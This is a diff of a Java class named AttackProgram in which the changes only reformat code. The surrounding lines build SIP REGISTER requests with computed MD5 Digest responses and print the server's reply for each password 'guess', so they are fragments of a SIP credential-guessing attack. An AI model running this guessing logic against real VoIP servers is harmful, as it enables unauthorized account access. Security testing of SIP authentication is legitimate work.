@@ -69,9 +69,10 @@ public final class AttackProgram {
                 String uri = "sip:" + target.getHostString();
                 String response = md5(md5(user + ":" + realm + ":" + password) + ":" + nonce + ":00000001:c:auth:"
                         + md5("REGISTER:" + uri));
-                String header = ("Authorization: Digest username=\"%s\",realm=\"%s\",nonce=\"%s\",uri=\"%s\",response=\"%s\","
-                                + "algorithm=MD5,cnonce=\"c\",qop=auth,nc=00000001\r\n")
-                        .formatted(user, realm, nonce, uri, response);
+                String header =
+                        ("Authorization: Digest username=\"%s\",realm=\"%s\",nonce=\"%s\",uri=\"%s\",response=\"%s\","
+                                        + "algorithm=MD5,cnonce=\"c\",qop=auth,nc=00000001\r\n")
+                                .formatted(user, realm, nonce, uri, response);
                 send(socket, request("REGISTER", user, callId, 2, socket, header));
                 String answer = receive(socket);
                 System.out.println("guess " + i + ": " + (answer.isEmpty() ? "silence" : answer.substring(8, 11)));
@@ -114,23 +115,22 @@ public final class AttackProgram {
                 CSeq: %d %s
                 Contact: <sip:%s@%s>
                 Expires: 300
-                """.replace("\n", "\r\n")
-                        .formatted(
-                                method,
-                                method.equals("REGISTER") ? host : user + "@" + host,
-                                own,
-                                callId,
-                                cseq,
-                                user,
-                                host,
-                                callId,
-                                user,
-                                host,
-                                callId,
-                                cseq,
-                                method,
-                                user,
-                                own)
+                """.replace("\n", "\r\n").formatted(
+                        method,
+                        method.equals("REGISTER") ? host : user + "@" + host,
+                        own,
+                        callId,
+                        cseq,
+                        user,
+                        host,
+                        callId,
+                        user,
+                        host,
+                        callId,
+                        cseq,
+                        method,
+                        user,
+                        own)
                 + more + "Content-Length: 0\r\n\r\n";
     }
 
